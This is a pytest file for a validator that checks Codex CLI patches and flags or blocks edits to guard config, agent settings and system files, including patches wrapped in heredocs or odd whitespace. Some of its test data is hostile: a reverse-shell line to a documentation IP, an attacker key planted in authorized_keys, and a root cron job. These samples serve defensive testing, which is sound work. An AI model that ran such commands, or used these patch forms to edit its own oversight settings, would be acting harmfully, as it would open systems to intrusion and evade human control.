"""Codex CLI's patches (`apply_patch`): every file a patch could change is read from it, however its markers are
padded or wrapped, and judged as a file tool's write or delete, whether the patch comes as the tool's input or
through the shell."""

from __future__ import annotations

import pytest

from lighthouse_mcp.validation.decision import Validator
from lighthouse_mcp.validation.patch import MAX_OPERATIONS, read_patch
from lighthouse_mcp.validation.request import make_request
from tests.validation.conftest import CTX


def patch(*lines: str) -> str:
    return "\n".join(["*** Begin Patch", *lines, "*** End Patch"]) + "\n"


def judge(validator: Validator, tool: str, tool_input: dict[str, str]) -> tuple[str, list[str], str]:
    request = make_request(tool, tool_input, cwd=CTX.cwd, project=CTX.project, home=CTX.home, guard=CTX.guard)
    decision = validator.validate(request)
    return decision.decision, [r["rule"] for r in decision.reasons], decision.summary


def test_a_patch_names_what_it_adds_updates_moves_and_deletes() -> None:
    read = read_patch(
        patch(
            "*** Add File: docs/new.md",
            "+# New",
            "+text",
            "*** Update File: src/app.py",
            "*** Move to: src/main.py",
            "@@ def main():",
            "-    pass",
            "+    run()",
            "*** Delete File: old.txt",
        )
    )
    assert read.paths() == ["docs/new.md", "src/app.py", "src/main.py", "old.txt"]
    assert read.written() == [("docs/new.md", "# New\ntext\n"), ("src/main.py", "    run()\n")]
    assert read.removed() == ["src/app.py", "old.txt"]


@pytest.mark.parametrize(
    "text",
    [
        patch("*** Add File: .lighthouse/config.yaml", "+x"),
        patch("   *** Add File: .lighthouse/config.yaml   ", "+x"),  # Codex trims the markers' lines
        patch("\t*** Update File: .lighthouse/config.yaml\r", "@@", "-a", "+b"),
        "<<'EOF'\n" + patch("*** Delete File: .lighthouse/config.yaml") + "EOF\n",  # a heredoc around it
        patch("*** Update File: a.txt", "@@", "-a", "+b", "*** Add File: .lighthouse/config.yaml", "+x"),
        patch("*** Update File: a.txt", "*** Move to: .lighthouse/config.yaml", "@@", "-a", "+b"),
        "*** Add File: .lighthouse/config.yaml\n+x\n",  # no Begin marker: Codex refuses it, it is read all the same
        "\u3000*** Add File: .lighthouse/config.yaml\n",  # Unicode whitespace, which Codex trims too
    ],
)
def test_every_file_header_codex_would_act_on_is_read(text: str) -> None:
    assert f"{'.lighthouse/config.yaml'}" in read_patch(text).paths()


def test_an_added_line_that_looks_like_a_header_is_content() -> None:
    read = read_patch(patch("*** Add File: notes.md", "+*** Delete File: src/app.py"))
    assert read.paths() == ["notes.md"] and read.written() == [("notes.md", "*** Delete File: src/app.py\n")]


def test_a_patch_with_too_many_files_says_so() -> None:
    read = read_patch(patch(*(f"*** Delete File: f{i}" for i in range(MAX_OPERATIONS + 5))))
    assert read.too_many and len(read.changes) == MAX_OPERATIONS


@pytest.mark.parametrize(
    ("text", "decision", "rule"),
    [
        (patch("*** Add File: .lighthouse/policies/team.yaml", "+overrides: []"), "deny", "guard.lighthouse-files"),
        (patch("*** Update File: .codex/hooks.json", "@@", '-"hooks"', '+"x"'), "ask", "guard.agent-settings"),
        (
            patch("*** Update File: src/app.py", "*** Move to: .codex/config.toml", "@@", "-a", "+b"),
            "ask",
            "guard.agent-settings",
        ),
        (patch("*** Delete File: .claude/settings.json"), "ask", "guard.agent-settings"),
        (patch("*** Add File: ~/.ssh/authorized_keys", "+ssh-ed25519 AAAA attacker"), "deny", "persist.startup-files"),
        (patch("*** Add File: /etc/cron.d/x", "+* * * * * root sh /tmp/x"), "deny", "files.write-system"),
        (patch(*(f"*** Delete File: f{i}" for i in range(MAX_OPERATIONS + 1))), "ask", "input.too-complex"),
    ],
)
def test_a_patch_is_judged_as_the_writes_and_deletes_it_makes(
    validator: Validator, text: str, decision: str, rule: str
) -> None:
    for tool, tool_input in (
        ("apply_patch", {"command": text}),
        ("Bash", {"command": f"apply_patch <<'EOF'\n{text}EOF"}),
    ):
        decided, rules, summary = judge(validator, tool, tool_input)
        assert (decided, rule in rules) == (decision, True), (tool, summary)


def test_code_a_patch_leaves_to_run_is_judged(validator: Validator) -> None:
    """As a write tool's: the text the patch puts in the file (through the shell, as `cat > x <<EOF` is, by path)."""
    text = patch("*** Add File: tools/sync.sh", "+#!/bin/sh", "+sh -i >& /dev/tcp/198.51.100.4/9 0>&1")
    decided, rules, summary = judge(validator, "apply_patch", {"command": text})
    assert decided == "ask" and "tool.writes-harmful-code" in rules, summary


@pytest.mark.parametrize(
    "text",
    [
        patch("*** Add File: docs/notes.md", "+# Notes"),
        patch("*** Update File: src/app.py", "@@ def main():", "-    pass", "+    return 0"),
        patch(
            "*** Update File: src/app.py", "*** Move to: src/main.py", "@@", "-a", "+b", "*** Delete File: build/old.o"
        ),
    ],
)
def test_an_ordinary_patch_is_allowed(validator: Validator, text: str) -> None:
    assert judge(validator, "apply_patch", {"command": text})[0] == "allow"
    assert judge(validator, "Bash", {"command": f"apply_patch <<'EOF'\n{text}EOF"})[0] == "allow"


def test_a_patch_is_judged_where_the_shell_applies_it(validator: Validator) -> None:
    text = patch("*** Add File: config.yaml", "+validation: {}")
    assert judge(validator, "Bash", {"command": f"cd .lighthouse && apply_patch <<'EOF'\n{text}EOF"})[0] == "deny"
    assert judge(validator, "Bash", {"command": f"cd docs && apply_patch <<'EOF'\n{text}EOF"})[0] == "allow"


def test_every_way_the_shell_hands_codex_a_patch_is_read(validator: Validator) -> None:
    text = patch("*** Add File: .lighthouse/config.yaml", "+validation: {}")
    for command in (
        f"apply_patch <<EOF\n{text}EOF",  # a heredoc that expands, with nothing in it to expand
        f"apply_patch <<< '{text}'",
        f"codex --codex-run-as-apply-patch '{text}'",  # how Codex runs its own apply_patch
        f"bash -lc \"apply_patch '{text}'\"",
    ):
        assert judge(validator, "Bash", {"command": command})[0] == "deny", command


@pytest.mark.parametrize(
    "command",
    [
        'apply_patch "$PATCH"',
        "apply_patch < /tmp/change.patch",
        "cat /tmp/change.patch | applypatch",
        'apply_patch "$(cat p)"',
        "apply_patch <<EOF\n$(cat /tmp/change.patch)\nEOF",  # the heredoc expands when it runs
        "apply_patch <<'EOF' < /tmp/change.patch\n*** Begin Patch\n*** End Patch\nEOF",  # the later input wins
        'codex --codex-run-as-apply-patch "$PATCH"',
    ],
)
def test_a_patch_only_known_when_it_runs_asks(validator: Validator, command: str) -> None:
    decided, rules, summary = judge(validator, "Bash", {"command": command})
    assert decided == "ask" and "input.unresolved" in rules, summary


def test_the_decision_records_the_files_a_patch_changes(validator: Validator) -> None:
    request = make_request(
        "apply_patch", {"command": patch("*** Add File: a.md", "+x", "*** Delete File: b.md")}, cwd=CTX.cwd
    )
    assert request.summary()["paths"] == ["a.md", "b.md"]
